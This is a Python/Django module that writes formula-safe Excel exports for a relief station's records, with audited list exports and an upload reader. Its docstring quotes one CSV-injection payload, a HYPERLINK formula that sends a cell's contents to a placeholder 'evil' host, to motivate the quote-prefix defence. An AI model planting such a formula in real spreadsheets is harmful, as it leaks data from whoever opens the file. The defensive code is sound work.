"""THE Excel writer: every .xlsx the system produces goes through this module (issue 8, item 6).

Why one writer: a name typed as ``=HYPERLINK("http://evil/?"&A1,"点击")`` must never become a live
formula in a station's monthly report, and every export should look the same (bold Chinese headers,
readable column widths, local times, frozen header row).

- Every text cell is written as *text*: a value that a spreadsheet would read as a formula (leading
  ``= + - @``, their full-width forms, or a leading tab / carriage return, also after leading spaces)
  is stored as a string cell with Excel's "quote prefix" style, so Excel, WPS and LibreOffice show it
  verbatim and keep it text even when the cell is edited. Nothing is ever written as a formula.
- Characters XML cannot hold (NUL and other control characters) are dropped instead of failing the export.
- Aware datetimes are written in local time (Asia/Shanghai) as ``yyyy-mm-dd hh:mm``; dates as ``yyyy-mm-dd``;
  booleans as 是/否; model instances, UUIDs and lists as text.
- Sheets stream (openpyxl write-only mode): column widths are measured on the header and the first
  rows (CJK characters count double), so an export of 100,000 rows does not hold them all in memory.

Usage::

    book = ExcelBook()
    sheet = book.sheet("寻亲月报")
    sheet.title("清远市救助管理站 寻亲工作月报（2026年3月）")
    sheet.header(["档案号", "姓名", "入站时间"])
    for row in rows:
        sheet.row([row.file_no, row.name, row.admitted_at])
    return book.response("寻亲月报-2026-03.xlsx")

Reading uploaded workbooks goes through ``read_upload`` at the end of this module (imports of missing-person reports
and of departments' shared lists).
"""

from __future__ import annotations

import datetime
import decimal
import io
import re
import unicodedata
import uuid
from collections.abc import Iterable, Iterator
from typing import Any

from django.db import models
from django.http import HttpResponse
from django.utils import timezone
from django.utils.http import content_disposition_header
from openpyxl import Workbook
from openpyxl.cell import WriteOnlyCell
from openpyxl.styles import Alignment, Border, Font, Side
from openpyxl.utils import get_column_letter
from openpyxl.worksheet.cell_range import CellRange

XLSX_CONTENT_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"

#: Characters that make a spreadsheet treat a cell as a formula (ASCII and full-width forms).
FORMULA_TRIGGERS = frozenset("=+-@＝＋－＠")
#: Leading characters that are dangerous on their own (OWASP CSV injection: tab and carriage return).
DANGEROUS_LEADING = frozenset("\t\r\n")
#: Characters XML 1.0 cannot contain; openpyxl would raise IllegalCharacterError on them.
_ILLEGAL_XML = re.compile(r"[\x00-\x08\x0b\x0c\x0e-\x1f\ufffe\uffff]")
#: Width limits (in Excel's character units) and how many rows are measured before streaming.
MIN_WIDTH, MAX_WIDTH, MEASURED_ROWS = 6, 60, 200
#: Excel's hard cell limit; longer text is cut with a marker rather than producing a corrupt file.
MAX_CELL_CHARS = 32767

DATETIME_FORMAT = "yyyy-mm-dd hh:mm"
DATE_FORMAT = "yyyy-mm-dd"


def is_formula_like(text: str) -> bool:
    """Would a spreadsheet program read ``text`` as a formula (or a DDE payload)?"""
    if not text:
        return False
    if text[0] in DANGEROUS_LEADING:
        return True
    stripped = text.lstrip(" \u3000\u00a0")
    return bool(stripped) and (stripped[0] in FORMULA_TRIGGERS or stripped[0] in DANGEROUS_LEADING)


def clean_text(text: str) -> str:
    """Text as it may be stored in a cell: XML-illegal characters dropped, cut to Excel's limit."""
    text = _ILLEGAL_XML.sub("", text)
    if len(text) > MAX_CELL_CHARS:
        text = text[: MAX_CELL_CHARS - 6] + "……（截断）"
    return text


def plain_value(value: Any) -> Any:
    """A Python value as something a cell holds: str, int, float, Decimal, naive local datetime or date."""
    if value is None:
        return ""
    if isinstance(value, bool):
        return "是" if value else "否"
    if isinstance(value, int | float | decimal.Decimal):
        return value
    if isinstance(value, datetime.datetime):
        if timezone.is_aware(value):
            value = timezone.localtime(value)
        return value.replace(tzinfo=None, microsecond=0)
    if isinstance(value, datetime.date):
        return value
    if isinstance(value, datetime.time):
        return value.strftime("%H:%M")
    if isinstance(value, uuid.UUID):
        return str(value)
    if isinstance(value, models.Model):
        return str(value)
    if isinstance(value, list | tuple | set | frozenset):
        return "、".join(str(plain_value(v)) for v in value)
    return str(value)


def display_width(value: Any) -> int:
    """Approximate column width of a value: East-Asian wide characters count 2."""
    if isinstance(value, datetime.datetime):
        return 16
    if isinstance(value, datetime.date):
        return 10
    text = str(value)
    longest = max((line for line in text.splitlines() or [""]), key=len)
    return sum(2 if unicodedata.east_asian_width(ch) in "WF" else 1 for ch in longest[:200])


class ExcelSheet:
    """One worksheet; rows are buffered until widths are known, then streamed."""

    def __init__(self, book: ExcelBook, title: str):
        self._book = book
        self._ws = book._wb.create_sheet(title=_sheet_title(title))
        self._pending: list[list[WriteOnlyCell]] = []
        self._widths: dict[int, int] = {}
        self._streaming = False
        self._rows = 0
        self._freeze_after: int | None = None

    # --- building cells -------------------------------------------------------------------------
    def _cell(self, value: Any, *, bold: bool = False, size: float | None = None) -> WriteOnlyCell:
        value = plain_value(value)
        formula_like = False
        if isinstance(value, str):
            value = clean_text(value)
            formula_like = is_formula_like(value)
        cell = WriteOnlyCell(self._ws, value=value)
        if isinstance(value, str):
            # Never a formula: openpyxl marks strings starting with "=" as formulas; force text.
            cell.data_type = "s"
            if formula_like:
                cell.quotePrefix = True  # Excel/WPS keep it text even when the cell is edited
            if "\n" in value:
                cell.alignment = Alignment(wrap_text=True, vertical="top")
        elif isinstance(value, datetime.datetime):
            cell.number_format = DATETIME_FORMAT
        elif isinstance(value, datetime.date):
            cell.number_format = DATE_FORMAT
        if bold or size:
            cell.font = Font(bold=bold, size=size or 11)
        return cell

    def _add(self, cells: list[WriteOnlyCell], *, measure: bool = True) -> None:
        self._rows += 1
        if measure and not self._streaming:
            for index, cell in enumerate(cells, start=1):
                self._widths[index] = max(self._widths.get(index, 0), display_width(cell.value))
        if self._streaming:
            self._ws.append(cells)
            return
        self._pending.append(cells)
        if len(self._pending) >= MEASURED_ROWS:
            self._flush()

    def _flush(self) -> None:
        if self._streaming:
            return
        for index, width in self._widths.items():
            self._ws.column_dimensions[get_column_letter(index)].width = max(MIN_WIDTH, min(MAX_WIDTH, width + 2))
        if self._freeze_after:
            self._ws.freeze_panes = f"A{self._freeze_after + 1}"
        self._streaming = True
        for cells in self._pending:
            self._ws.append(cells)
        self._pending = []

    # --- public API -----------------------------------------------------------------------------
    def title(self, text: str, *, span: int | None = None) -> ExcelSheet:
        """A bold title line (not measured for column widths: it may be long); ``span``: merged over that many
        columns and centred, as a form's title over its table."""
        cell = self._cell(text, bold=True, size=14)
        self._add([cell], measure=False)
        if span and span > 1:
            cell.alignment = Alignment(horizontal="center", vertical="center")
            self._merge(self._rows, 1, self._rows, span)
        return self

    def _merge(self, first_row: int, first_col: int, last_row: int, last_col: int) -> None:
        # Write-only sheets keep their merged ranges and write them after the rows (openpyxl's tail).
        self._ws.merged_cells.add(CellRange(min_col=first_col, min_row=first_row, max_col=last_col, max_row=last_row))

    def merged_header(self, cells: Iterable[tuple[int, int, int, int, Any]], *, min_width: int = 10) -> ExcelSheet:
        """A form's multi-level header (the annex of a circular, e.g. the 情况汇总表): ``cells`` are
        ``(row, col, rowspan, colspan, label)`` with 0-based row and column inside the header. Labels are bold,
        centred, wrapped and boxed; merged ranges span what the form spans; every column a single label stands on
        is at least ``min_width`` wide (the labels wrap instead of widening it); the rows below scroll under it."""
        cells = list(cells)
        if not cells:
            return self
        height = max(r + rs for r, _, rs, _, _ in cells)
        width = max(c + cs for _, c, _, cs, _ in cells)
        labels: dict[tuple[int, int], Any] = {(r, c): label for r, c, _, _, label in cells}
        first = self._rows + 1
        side = Side(style="thin")
        for r in range(height):
            row = []
            for c in range(width):
                cell = self._cell(labels.get((r, c)), bold=True)
                cell.alignment = Alignment(horizontal="center", vertical="center", wrap_text=True)
                cell.border = Border(left=side, right=side, top=side, bottom=side)
                row.append(cell)
            self._add(row, measure=False)
        for r, c, rs, cs, _ in cells:
            if rs > 1 or cs > 1:
                self._merge(first + r, c + 1, first + r + rs - 1, c + cs)
            if cs == 1:
                self._widths[c + 1] = max(self._widths.get(c + 1, 0), min_width)
        if self._freeze_after is None and not self._streaming:
            self._freeze_after = self._rows
        return self

    def header(self, labels: Iterable[Any]) -> ExcelSheet:
        """The bold header row (Chinese labels); rows below it scroll under a frozen header."""
        self._add([self._cell(label, bold=True) for label in labels])
        if self._freeze_after is None and not self._streaming:
            self._freeze_after = self._rows
        return self

    def row(self, values: Iterable[Any]) -> ExcelSheet:
        self._add([self._cell(v) for v in values])
        return self

    def rows(self, rows: Iterable[Iterable[Any]]) -> ExcelSheet:
        for values in rows:
            self.row(values)
        return self

    def blank(self) -> ExcelSheet:
        self._add([], measure=False)
        return self


class ExcelBook:
    """A workbook built only of formula-safe cells; see the module docstring."""

    def __init__(self):
        self._wb = Workbook(write_only=True)
        self._sheets: list[ExcelSheet] = []

    def sheet(self, title: str) -> ExcelSheet:
        sheet = ExcelSheet(self, title)
        self._sheets.append(sheet)
        return sheet

    def to_bytes(self) -> bytes:
        if not self._sheets:
            self.sheet("Sheet1")
        for sheet in self._sheets:
            sheet._flush()
        buf = io.BytesIO()
        self._wb.save(buf)
        return buf.getvalue()

    def response(self, filename: str) -> HttpResponse:
        """The workbook as a download; ``filename`` may be Chinese (RFC 6266 / 5987 header)."""
        return xlsx_response(self.to_bytes(), filename)


def xlsx_response(content: bytes, filename: str) -> HttpResponse:
    """A download of a workbook built here; ``filename`` may be Chinese (RFC 6266 / 5987 header)."""
    if not filename.lower().endswith(".xlsx"):
        filename += ".xlsx"
    response = HttpResponse(content, content_type=XLSX_CONTENT_TYPE)
    response["Content-Disposition"] = content_disposition_header(True, filename)
    response["Cache-Control"] = "private, no-store"
    return response


def _sheet_title(title: str) -> str:
    # Excel: at most 31 characters, none of []:*?/\
    cleaned = re.sub(r"[\[\]:*?/\\]", "_", clean_text(title or "Sheet")).strip("'") or "Sheet"
    return cleaned[:31]


def table_xlsx(*, sheet: str, headers: list[str], rows: Iterable[Iterable[Any]], title: str = "") -> ExcelBook:
    """The common case in one call: one sheet, an optional title line, a header row and the rows."""
    book = ExcelBook()
    ws = book.sheet(sheet)
    if title:
        ws.title(title)
    ws.header(headers)
    ws.rows(rows)
    return book


#: The most rows one list export writes (a whole province's people in care fits; beyond that, filter).
EXPORT_ROW_LIMIT = 100_000


def wants_xlsx(request) -> bool:
    """A list page asked for its Excel export (``?format=xlsx`` next to the page's own filters)."""
    return request.GET.get("format") == "xlsx"


def list_export(request, *, title: str, headers: list[str], rows: Iterable[Iterable[Any]], filename: str,
                filters: dict | None = None, organisation=None, object_type: str = "list") -> HttpResponse:
    """Export a list or ledger as .xlsx with the filters the page applied: the caller passes the same scoped,
    filtered queryset the page shows (as ``rows``). The export of personal data is audited (EXPORT, as
    ``object_type``) with the filters used and the number of rows written. The one way a page exports."""
    from core.audit import audit
    from core.models import AuditAction

    used = {k: _filter_text(v) for k, v in (filters or {}).items() if v not in (None, "", [], False)}
    described = "；".join(f"{k}={v}" for k, v in used.items())
    book = ExcelBook()
    ws = book.sheet(title)
    stamp = timezone.localtime().strftime("%Y-%m-%d %H:%M")
    ws.title(f"{title}（导出时间 {stamp}，导出人 {request.user}{'，筛选：' + described if described else ''}）")
    ws.header(headers)
    count = 0
    for row in rows:
        if count >= EXPORT_ROW_LIMIT:
            ws.row([f"（仅导出前 {EXPORT_ROW_LIMIT} 行，请缩小筛选范围）"])
            break
        ws.row(row)
        count += 1
    audit(actor=request.user, action=AuditAction.EXPORT, object_type=object_type, object_id=filename[:64],
          summary=f"导出《{title}》Excel {count} 行" + (f"（筛选：{described}）" if described else ""),
          organisation=organisation or getattr(request.user, "organisation", None),
          changes={"filters": [None, used], "rows": [None, count]})
    return book.response(f"{filename}-{timezone.localdate():%Y%m%d}.xlsx")


def _filter_text(value: Any) -> str:
    if isinstance(value, models.Model):
        return str(value)
    if isinstance(value, datetime.date | datetime.datetime):
        return value.isoformat()
    return str(value)[:100]


# --- reading uploads ------------------------------------------------------------------------------------


def cell_text(value: Any) -> str:
    """An uploaded cell as text: empty for nothing, ``12.0`` as ``12`` (Excel stores numbers as floats)."""
    if value is None:
        return ""
    if isinstance(value, float) and value.is_integer():
        return str(int(value))
    return str(value).strip()


def read_upload(upload, *, header_row: int = 1, unreadable: str) -> tuple[list[str], Iterator[tuple[int, tuple]]]:
    """The first sheet of an uploaded .xlsx, read-only: the header row's texts and an iterator of
    ``(row number, values)`` for the rows below it, blank rows skipped. A file openpyxl cannot read raises a
    ``ValidationError`` on ``file`` with the message ``unreadable``. The one way an import reads Excel."""
    from django.core.exceptions import ValidationError
    from openpyxl import load_workbook

    try:
        upload.seek(0)
        ws = load_workbook(upload, read_only=True, data_only=True).worksheets[0]
    except Exception as exc:  # openpyxl raises many types for non-Excel files
        raise ValidationError({"file": unreadable}) from exc
    rows = ws.iter_rows(values_only=True)
    header = None
    for _ in range(header_row):
        header = next(rows, None)
    body = ((n, values) for n, values in enumerate(rows, start=header_row + 1)
            if values is not None and any(cell_text(v) for v in values))
    return [cell_text(h) for h in (header or ())], body

